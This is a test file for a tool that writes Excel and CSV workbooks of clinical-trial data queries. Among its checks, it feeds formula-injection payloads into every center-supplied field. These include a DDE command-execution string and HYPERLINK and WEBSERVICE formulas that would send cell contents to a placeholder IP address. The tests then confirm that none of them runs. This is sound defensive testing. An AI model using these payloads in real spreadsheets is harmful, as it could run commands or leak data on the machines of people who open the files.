"""The workbook of queries: what a line says, what a cell can do, and what the center may fill in."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess
import time
import zipfile
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest

from schemas.catalog import load_catalog
from schemas.queries import BOOK_WORDS, FOLDER, WRITTEN, Words, read_texts
from schemas.query_frames import ANSWERS, FACT, QUERY
from schemas.staging import FINDING_FIELD
from warehouse.packet_files import csv_bytes
from warehouse.query_book import About, lines, write_book
from warehouse.query_book.columns import ANSWER_WORDS, CODES, COLUMNS
from warehouse.rules import declared_rules

ON = dt.date(2024, 9, 10)
RULES = declared_rules(load_catalog())
ABOUT = About("MM2024", "Salvage after CAR-T", "DE01", 7, ON, (dt.date(2024, 6, 14),))
PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", "+1", "-1", "-5", "@x", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", " =1+1",
    '=HYPERLINK("http://192.0.2.1/?x="&B2,"click")', '=WEBSERVICE("http://192.0.2.1/"&B2)',
    "{=SUM(A1:A2)}", "'=1+1", "\uff1d1+1", "http://192.0.2.1/x", "mailto:a@example.org",
    "internal:Sheet1!A1", "00123", "1E5", "TRUE", "#N/A", "_x003D_1+1", "<b>&amp;", "]]>",
]  # fmt: skip
EMPTY_ANSWER = dict.fromkeys(
    ("answer", "corrected_value", "comment", "answered_by", "answered_on"), None
)


def query(number: int, **changes: Any) -> dict[str, Any]:
    return {
        "query_id": f"Q-0000000{number}" if number < 10 else f"Q-{number:08d}",
        "center_id": "DE01",
        "patient_id": "UKL-017",
        "rule_id": "DAT-13",
        "table": "relapse",
        "instance": f"relapse_number={number}",
        "field": "relapse_date",
        "severity": "error",
        "fingerprint": "f",
        "involved": ["relapse_date"],
        "state": "open",
        "created_at": dt.datetime(2024, 8, 1, 5, tzinfo=dt.UTC),
        "released_at": dt.datetime(2024, 8, 31, 23, tzinfo=dt.UTC),
        **EMPTY_ANSWER,
        **changes,
    }


def cell(value: str | None, **changes: Any) -> dict[str, Any]:
    return {
        "table": "relapse",
        "column": "relapse_date",
        "file": "verlauf.csv",
        "sheet": None,
        "row": 7,
        "source_column": "Rezidiv am",
        "value": value,
        "understood": None,
        **changes,
    }


Asked = list[tuple[dict[str, Any], list[dict[str, Any]]]]


def told(asked: Asked, language: str | None = None, message: str | None = None) -> pl.DataFrame:
    """The lines of queries, each with the cells of its fact."""
    queries = pl.DataFrame([q for q, _ in asked], QUERY)
    facts = pl.DataFrame(
        [{k: q.get(k) for k in FACT} | {"delivery_key": 1, "finding_id": n} for n, (q, _) in enumerate(asked)],
        FACT,
    ).with_columns(message=pl.lit(message, pl.String))  # fmt: skip
    fields = pl.DataFrame(
        [
            {"finding_id": n, "position": p, "fact": n, **one}
            for n, (_, cells) in enumerate(asked)
            for p, one in enumerate(cells, 1)
        ],
        {**FINDING_FIELD, "fact": pl.UInt32()},
    )
    return lines(queries, facts, fields, RULES, language, on=ON)


def book(frame: pl.DataFrame, language: str | None = None) -> bytes:
    out = BytesIO()
    write_book(frame, ABOUT, Words(language, further=BOOK_WORDS), out)
    return out.getvalue()


def opened(frame: pl.DataFrame, language: str | None = None) -> Any:
    return openpyxl.load_workbook(BytesIO(book(frame, language)))


def test_one_cell_is_told_with_its_place_and_in_the_centers_words() -> None:
    (line,) = told([(query(1), [cell("01.03.2022", understood="2022-03-01")])], "de").to_dicts()
    assert {k: v for k, v in line.items() if k in CODES and v is not None} == {
        "query_id": "Q-00000001",
        "patient": "UKL-017",
        "record": "Rezidiv 1",
        "field": "Rezidiv am",
        "file": "verlauf.csv",
        "row": "7",
        "column": "Rezidiv am",
        "value": "01.03.2022",
        "understood": "2022-03-01",
        "expected": "Infusion vor Rezidiv. Ein Rezidiv liegt nach der Infusion, in der Regel mindestens 10 Tage.",
        "question": "Das Rezidiv liegt vor, an oder unmittelbar nach dem Tag der Infusion. Welches Datum ist falsch?",
        "severity": "Fehler",
        "days_open": 10,  # from the day on which it was released
    }


def test_several_cells_are_one_line_that_names_each() -> None:
    cells = [
        cell("2023-02-01", source_column="Beginn"),
        cell(None, source_column="Ende"),
        cell("ja", source_column="Status", file="p.xlsx", sheet="CAR-T", row=9),
    ]
    (line,) = told([(query(1), cells)]).to_dicts()
    assert line["value"] == "Beginn: 2023-02-01; Ende: –; Status: ja"
    assert line["understood"] is None
    assert [line[k] for k in ("field", "file", "sheet", "row", "column")] == [
        "Beginn", "verlauf.csv; p.xlsx", "CAR-T", "7; 9", "Beginn; Ende; Status",
    ]  # fmt: skip


def test_cells_under_one_header_are_told_apart_by_their_rows() -> None:
    cells = [cell("a", row=7), cell("b", row=8)]
    (line,) = told([(query(1), cells)], "de").to_dicts()
    assert line["value"] == "Rezidiv am (Zeile 7): a; Rezidiv am (Zeile 8): b"


def test_of_very_many_cells_the_first_are_named_and_the_others_counted() -> None:
    cells = [cell(None, row=row, source_column="ID") for row in range(2, 1002)]
    (line,) = told([(query(1, patient_id=None, table=None), cells)], "es").to_dicts()
    assert line["row"] == "2; 3; 4; 5; 6; 7; 8; 9; 10; 11; 12; 13 y 988 más"


def test_queries_about_the_same_cells_share_a_line_and_others_do_not() -> None:
    here, there = [cell("x")], [cell("x", row=8)]
    found = told(
        [
            (query(1, rule_id="DAT-01", severity="warning"), here),
            (query(2), here),
            (query(3), there),
            (query(4, patient_id="UKL-018"), here),
            (query(5, rule_id="DAT-06", released_at=dt.datetime(2024, 8, 1, tzinfo=dt.UTC)), here),
        ]
    )
    assert found["query_id"].to_list() == [
        "Q-00000001 Q-00000002 Q-00000005", "Q-00000003", "Q-00000004",
    ]  # fmt: skip
    first = found.row(0, named=True)
    assert (first["severity"], first["days_open"]) == ("error", 40)
    assert [rule["rule_id"] for rule in first["rules"]] == ["DAT-01", "DAT-13", "DAT-06"]
    assert len(first["question"].split("\n")) == 3


def test_queries_without_an_address_never_share_a_line() -> None:
    nowhere = [cell(None, source_column=None)]
    found = told([(query(1), nowhere), (query(2, rule_id="DAT-06"), nowhere), (query(3), [])])
    assert sorted(found["query_id"]) == ["Q-00000001", "Q-00000002", "Q-00000003"]
    assert set(found["field"]) == {"Date of relapse or progression"}


def test_a_query_that_no_delivery_tells_now_keeps_its_line() -> None:
    queries = pl.DataFrame([query(1)], QUERY)
    facts = pl.DataFrame(schema={**FACT, "message": pl.String()})
    fields = pl.DataFrame(schema={**FINDING_FIELD, "fact": pl.UInt32()})
    (line,) = lines(queries, facts, fields, RULES, "de", on=ON).to_dicts()
    assert (line["query_id"], line["record"], line["value"]) == ("Q-00000001", "Rezidiv 1", None)
    assert line["question"].startswith("Das Rezidiv liegt vor")


@pytest.mark.parametrize(
    ("table", "instance", "record"),
    [
        ("response", "line_number=2 kind=BEST response_date=2023-05-02",
         "Linie 2: Bestes Ansprechen der Linie, 2023-05-02"),
        ("response", "line_number= kind=BEST response_date=", "Linie ?: Bestes Ansprechen der Linie"),
        ("follow_up", "", "Nachbeobachtung"),
        ("lab", "lab_date=2023-05-02 test=HB", "Labor: 2023-05-02, Hämoglobin (g/dL)"),
        ("lab", "lab_date=2023-05-02 test==cmd|x", "Labor: 2023-05-02, =cmd|x"),
        (None, "file=a#.csv sheet=", None),
    ],
)  # fmt: skip
def test_the_record_is_told_in_words(table: str | None, instance: str, record: str | None) -> None:
    asked: Asked = [(query(1, table=table, instance=instance), [])]
    assert told(asked, "de")["record"].to_list() == [record]


def test_codes_are_told_with_their_label_and_whole_numbers_without_a_fraction() -> None:
    cells = [
        cell("tot", table="follow_up", column="vital_status", source_column="S", understood="DEAD"),
        cell("38", table="risk", column="albumin", source_column="A", understood="380.0"),
        cell("1.0", table="subject", column="patient_id", source_column="P", understood="1.0"),
    ]
    (line,) = told([(query(1), cells)], "de").to_dicts()
    assert line["understood"] == "S: DEAD (Verstorben); A: 380; P: 1.0"


def test_a_partial_date_that_may_contradict_is_not_called_wrong() -> None:
    from schemas.rule_partial import MAY_VIOLATE

    (line,) = told([(query(1), [cell("2022")])], "de", MAY_VIOLATE).to_dicts()
    assert line["expected"].startswith("Möglicherweise nicht erfüllt: Infusion vor Rezidiv.")
    assert line["question"] == "Bitte geben Sie das vollständige Datum an."


def test_candidates_and_ended_queries_are_in_no_workbook() -> None:
    states = ("candidate", "open", "answered", "closed", "cancelled", "resolved")
    asked: Asked = [(query(n, state=s), [cell("x", row=n)]) for n, s in enumerate(states)]
    found = told(asked)
    assert found.select("query_id", "state").rows() == [
        ("Q-00000001", "open"), ("Q-00000002", "answered"),
    ]  # fmt: skip


def test_columns_are_found_by_codes_in_each_language() -> None:
    frame = told([(query(1), [cell("x")])])
    for language, title in ((None, "Query"), ("de", "Rückfrage"), ("es", "Consulta")):
        workbook = opened(frame, language)
        sheet = workbook.worksheets[1]
        assert [c.value for c in sheet[1]] == [f"carmony:{code}" for code in CODES]
        assert sheet.row_dimensions[1].hidden
        assert sheet["A2"].value == title
        assert sheet["A3"].value == "Q-00000001"
        marks = {row[0].value: row[1].value for row in workbook["carmony"].iter_rows()}
        assert marks == {
            "carmony_format": "1", "carmony_study": "MM2024", "carmony_center": "DE01",
            "carmony_part": "7", "carmony_lines": "1",
        }  # fmt: skip
        assert {p.name: p.value for p in workbook.custom_doc_props.props} == marks
        assert workbook["carmony"].sheet_state == "hidden"


@pytest.mark.parametrize(
    ("language", "answers"),
    [
        (None, "corrected in next delivery,value is correct,not available,patient withdrawn,other"),
        ("de", "wird in nächster Lieferung korrigiert,Wert ist richtig,nicht verfügbar,"
               "Patient ausgeschieden,Sonstiges"),
        ("es", "se corrige en el próximo envío,el valor es correcto,no disponible,"
               "paciente retirado,otro"),
    ],
)  # fmt: skip
def test_the_list_holds_the_five_answers_and_days_are_days(
    language: str | None, answers: str
) -> None:
    frame = told([(query(n), [cell("x", row=n)]) for n in range(1, 4)])
    sheet = opened(frame, language).worksheets[1]
    listed, day = sheet.data_validations.dataValidation
    assert (listed.type, listed.formula1) == ("list", f'"{answers}"')
    assert len(listed.formula1) <= 257  # Excel takes 255 letters and the two quotes
    assert (day.type, day.operator) == ("date", "greaterThanOrEqual")
    column = {code: openpyxl.utils.get_column_letter(n) for n, code in enumerate(CODES, 1)}
    assert str(listed.sqref) == f"{column['answer']}3:{column['answer']}5"
    assert str(day.sqref) == f"{column['answered_on']}3:{column['answered_on']}5"
    assert tuple(ANSWER_WORDS) == ANSWERS


def test_only_the_cells_to_fill_in_are_open_and_no_password_is_set() -> None:
    sheet = opened(told([(query(1), [cell("x")])])).worksheets[1]
    protection = sheet.protection
    assert protection.sheet
    assert protection.password is None
    assert (protection.sort, protection.autoFilter) == (False, False)  # False: is allowed
    for column, one in zip(COLUMNS, sheet[3], strict=True):
        assert one.protection.locked is not column.input, column.code


def test_the_sheet_is_filtered_frozen_and_set_up_for_print() -> None:
    sheet = opened(told([(query(1), [cell("x")])])).worksheets[1]
    assert sheet.auto_filter.ref == "A2:S3"
    assert sheet.freeze_panes == "C3"
    assert sheet.print_title_rows == "$2:$2"
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert all(sheet.column_dimensions[letter].width >= 7 for letter in "ABCDEFGHIJKLMNOPQRS")
    assert sheet["A3"].alignment.wrap_text


def test_a_center_without_queries_is_told_so() -> None:
    frame = told([(query(1, state="closed"), [])])
    workbook = opened(frame, "de")
    assert workbook.sheetnames == ["Bitte lesen", "Rückfragen", "carmony"]
    none = "Zu Ihrem Zentrum gibt es keine offenen Rückfragen. Es ist nichts zu tun."
    for sheet in workbook.worksheets[:2]:
        assert none in [c.value for row in sheet.iter_rows() for c in row]
    assert workbook.worksheets[1].data_validations.dataValidation == []


def test_what_was_answered_waits_on_a_sheet_with_nothing_to_fill_in() -> None:
    answered = query(
        2, state="answered", answer="corrected", corrected_value="=2", comment="-1 Tag",
        answered_by="A. B.", answered_on=dt.date(2024, 9, 2),
    )  # fmt: skip
    workbook = opened(told([(query(1), [cell("x")]), (answered, [cell("y", row=8)])], "de"), "de")
    assert workbook.sheetnames[1:3] == ["Rückfragen", "Wartet auf nächste Lieferung"]
    asked, waiting = workbook.worksheets[1:3]
    assert [row[0].value for row in asked.iter_rows(min_row=3)] == ["Q-00000001"]
    (line,) = waiting.iter_rows(min_row=3)
    assert [c.value for c in line][-5:] == [
        "wird in nächster Lieferung korrigiert", "=2", "-1 Tag", "A. B.", dt.datetime(2024, 9, 2),
    ]  # fmt: skip
    assert {c.data_type for c in line if c.value is not None} == {"s", "n", "d"}
    assert all(c.protection.locked for c in line)
    assert all(c.value is None for c in waiting[1])  # no codes: it is not read as answers
    cover = [c.value for row in workbook.worksheets[0].iter_rows() for c in row if c.value]
    assert (
        "1 Frage(n), die Sie beantwortet haben, stehen auf dem Blatt „Wartet auf nächste Lieferung“."
        in cover
    )


def test_the_cover_counts_by_severity_and_rule_and_names_the_oldest() -> None:
    frame = told(
        [
            (query(1), [cell("x")]),
            (query(2), [cell("x", row=8)]),
            (query(3, rule_id="DAT-27", severity="warning",
                   released_at=dt.datetime(2024, 8, 1, tzinfo=dt.UTC)), [cell("x", row=9)]),
        ],
        "de",
    )  # fmt: skip
    rows = [
        [c.value for c in row if c.value] for row in opened(frame, "de").worksheets[0].iter_rows()
    ]
    for expected in (
        ["Studie", "MM2024: Salvage after CAR-T"], ["Zentrum", "DE01"], ["Sendung", "7"],
        ["Erstellt am", "2024-09-10"], ["Zur Lieferung vom", "2024-06-14"],
        ["Offene Rückfragen", "3"], ["    Fehler", "2"], ["    Warnung", "1"],
        ["Älteste", "40 Tag(e)"], ["DAT-13  Infusion vor Rezidiv", "Fehler", "2", "10"],
    ):  # fmt: skip
        assert expected in rows
    assert [row[1:] for row in rows if row and row[0].startswith("DAT-27")] == [
        ["Warnung", "1", "40"]
    ]


def hostile() -> pl.DataFrame:
    """Payloads in every cell that a center's files can fill."""
    return told(
        [
            (
                query(n, patient_id=text, state=state, field=text, table="lab",
                      instance=f"lab_date={n} test={text}", answer="other",
                      corrected_value=text, comment=text, answered_by=text),
                [cell(text, file=text, sheet=text, source_column=text, understood=text)],
            )
            for n, (text, state) in enumerate(
                [(text, state) for text in PAYLOADS for state in ("open", "answered")], 10
            )
        ],
        message=None,
    )  # fmt: skip


def formulas(workbook: Any) -> list[Any]:
    return [
        one.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for one in row
        if one.data_type == "f" or one.hyperlink is not None
    ]


def test_no_cell_of_the_workbook_can_run() -> None:
    content = book(hostile())
    workbook = openpyxl.load_workbook(BytesIO(content))
    assert formulas(workbook) == []
    values = {row[8].value for row in workbook["Queries"].iter_rows(min_row=3)}
    kept = {text.replace("\r", "\n") for text in PAYLOADS if not text.startswith("_x00")}
    assert kept <= {value.replace("\r", "\n") for value in values}
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for member in archive.namelist():
            xml = archive.read(member).decode()
            for bad in (
                "<f>",
                "<f ",
                "<hyperlink",
                "externalLink",
                'TargetMode="External"',
                "ddeLink",
            ):
                assert bad not in xml, member  # fmt: skip


def test_no_cell_becomes_a_formula_in_libreoffice(tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed: on Debian apt-get install libreoffice-calc"
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "queries.xlsx").write_bytes(book(hostile()))
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
         "xlsx", "--outdir", str(tmp_path / "out"), str(tmp_path / "in" / "queries.xlsx")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    workbook = openpyxl.load_workbook(tmp_path / "out" / "queries.xlsx")
    assert formulas(workbook) == []
    sheet = workbook["Queries"]
    values = {row[8].value for row in sheet.iter_rows(min_row=3)}
    assert {"=1+1", "=cmd|'/C calc'!A0", "+1", "-1", "@x", "00123", "1E5", "TRUE"} <= values
    # What the import needs has come through.
    assert [c.value for c in sheet[1]][:2] == ["carmony:query_id", "carmony:patient"]
    assert workbook["carmony"]["B3"].value == "DE01"
    assert {p.name: p.value for p in workbook.custom_doc_props.props}["carmony_part"] == "7"
    assert [v.type for v in sheet.data_validations.dataValidation] == ["list", "date"]
    assert not sheet["O3"].protection.locked


def test_no_cell_of_the_table_starts_as_a_formula() -> None:
    words = Words("de", further=BOOK_WORDS)
    titles = {column.code: words(column.title) for column in COLUMNS}
    content = csv_bytes(hostile().select(list(titles)), titles, words).decode("utf-8-sig")
    rows = list(csv.DictReader(StringIO(content, newline="")))
    assert len(rows) == 2 * len(PAYLOADS)
    for row in rows:
        for text in row.values():
            assert text.strip("\ufeff\u00a0 ")[:1] not in tuple("=+-@\t\r\n＝＋－＠")
    assert {row["Gelieferter Wert"] for row in rows} >= {"'=1+1", "'+1", "'-1", "'@x", "00123"}


def test_a_value_too_long_for_a_cell_is_cut_with_a_note() -> None:
    sheet = opened(told([(query(1), [cell("x" * 40_000)])])).worksheets[1]
    assert sheet["I3"].value == "x" * 32_000 + " … (cut; whole in queries.csv)"


def test_the_same_queries_give_the_same_bytes() -> None:
    frame = hostile()
    first = book(frame, "de")
    assert book(hostile(), "de") == first
    assert book(frame, "es") != first


def test_eight_thousand_lines_are_written_in_seconds() -> None:
    """As many as one of twelve centers has, where there are 100,000 findings."""
    number = pl.int_range(8_000, dtype=pl.UInt32)
    patients = pl.format("P{}", number.cast(pl.String).str.zfill(5)).alias("patient_id")
    many = pl.select(number.alias("fact"), patients)
    one = pl.DataFrame([query(1)], QUERY).drop("patient_id", "query_id")
    queries = many.join(one, how="cross").with_columns(query_id=pl.format("Q-{}", "fact"))
    about = queries.select(pl.col(name) for name in FACT if name in QUERY)
    facts = about.with_columns(message=pl.lit(None, pl.String))
    cells = pl.DataFrame([cell("x" * 20), cell("y", source_column="B")]).cast({"row": pl.Int32})
    fields = many.select("fact").join(cells, how="cross").with_columns(
        row=pl.col("fact").cast(pl.Int32), sheet=pl.lit(None, pl.String), understood=pl.lit("2022")
    )  # fmt: skip
    start = time.process_time()
    frame = lines(queries, facts, fields, RULES, "de", on=ON)
    content = book(frame, "de")
    spent = time.process_time() - start
    assert frame.height == 8_000
    assert frame["value"].unique().to_list() == ["Rezidiv am: xxxxxxxxxxxxxxxxxxxx; B: y"]
    assert len(content) > 100_000
    assert spent < 12, spent  # 1.7 s where it was written


def test_every_word_of_the_book_is_used_and_told_in_each_language() -> None:
    import warehouse.query_book as package

    folder = Path(package.__path__[0])
    code = "".join(path.read_text(encoding="utf-8") for path in folder.glob("*.py"))
    code = code.replace('"\n    "', "")
    entries = read_texts(FOLDER / BOOK_WORDS)
    assert [word for word, entry in entries.items() if set(entry) != set(WRITTEN)] == []
    assert [word for word in entries if f'"{word}"' not in code] == []
    assert set(entries) & set(read_texts(FOLDER / "words.yaml")) == set()


def test_titles_of_sheets_fit_into_excel_and_titles_of_columns_differ() -> None:
    for language in (None, *WRITTEN):
        words = Words(language, further=BOOK_WORDS)
        names = [words(n) for n in ("Read me", "Queries", "Waiting for your next delivery")]
        assert max(map(len, names)) <= 31
        titles = [words(column.title) for column in COLUMNS]
        assert len(set(titles)) == len(titles)
